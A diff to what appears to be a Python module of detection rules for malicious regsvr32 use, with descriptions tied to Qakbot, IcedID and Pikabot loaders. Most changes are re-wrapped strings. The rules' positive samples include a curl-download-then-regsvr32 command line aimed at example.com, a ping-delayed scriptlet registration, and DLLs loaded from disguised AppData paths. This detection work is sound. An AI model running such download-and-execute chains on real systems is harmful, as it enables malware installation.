+                   "AppData\\Roaming\\Microsoft\\<folder> where <folder> is none that Microsoft "
+                   "software creates: Qakbot's and IcedID's hiding place, named to look like "
+                   "part of Windows."),
       positives=(
         "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
       negatives=(
@@ -1185,9 +1297,10 @@ _DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")
 @rule("R32-050", "Module named with digits only",
       COMMAND_LINE, risk=50, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T, "T1036"), sources=("L11",),
-      description=("The module's file name, before its extension, is only digits (and dots, dashes or "
-                   "underscores): 1.dll, 44621.7848322917.dll, 163520.png. Loaders name payloads by "
-                   "number or date serial; COM servers that software registers have words for names."),
+      description=("The module's file name, before its extension, is only digits (and dots, "
+                   "dashes or underscores): 1.dll, 44621.7848322917.dll, 163520.png. Loaders "
+                   "name payloads by number or date serial; COM servers that software registers "
+                   "have words for names."),
       positives=(
         'regsvr32.exe -s "C:\\Users\\bob\\AppData\\Local\\Temp\\44621.7848322917.dll"',
         "regsvr32.exe 102755.dll",),
@@ -1216,16 +1329,18 @@ _CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget")
       actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1105", "T1497.003"), sources=("L14", "LOLBAS"),
       description=("The parent's command line fetches a file (curl, wget, certutil -urlcache, "
-                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and then runs "
-                   "regsvr32 in the same line: the LNK and script chains of Qakbot, Pikabot and IcedID. "
-                   "Installers download and register in separate steps."),
+                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and "
+                   "then runs regsvr32 in the same line: the LNK and script chains of Qakbot, "
+                   "Pikabot and IcedID. Installers download and register in separate steps."),
       positives=(
-        {"CommandLine": "regsvr32 -n -i .asu.mid", "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
+        {"CommandLine": "regsvr32 -n -i .asu.mid",
+         "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
         {"CommandLine": "regsvr32 C:\\ProgramData\\x.ocx",
          "ParentCommandLine": "cmd /c curl -o C:\\ProgramData\\x.ocx https://example.com/a && regsvr32 C:\\ProgramData\\x.ocx"},),
       negatives=(
         {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
-        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},))
+        {"CommandLine": "regsvr32 /s x.dll",
+         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},))
 def download_chain(ev):
     low = ev.parent_command_line.lower()
     at = low.find("regsvr32")
@@ -1240,12 +1355,13 @@ def download_chain(ev):
 
 
 @rule("R32-052", "Module right in Downloads, Desktop or Documents",
-      COMMAND_LINE, risk=45, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=45, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T, "T1204.002"), sources=("L09", "Elastic EP 5db08297"),
-      description=("A module or /i: scriptlet lying right in the user's Downloads, Desktop or Documents "
-                   "folder: where a phishing chain saves its payload, and where a user keeps a control "
-                   "a vendor told them to register by hand. Medium on its own; with a second signal "
-                   "it is high."),
+      description=("A module or /i: scriptlet lying right in the user's Downloads, Desktop or "
+                   "Documents folder: where a phishing chain saves its payload, and where a user "
+                   "keeps a control a vendor told them to register by hand. Medium on its own; "
+                   "with a second signal it is high."),
       positives=(
         {"CommandLine": "regsvr32.exe 162_64.dll", "CurrentDirectory": "C:\\Users\\bob\\Downloads"},
         "regsvr32 /s C:\\Users\\bob\\Desktop\\invoice.dll",),
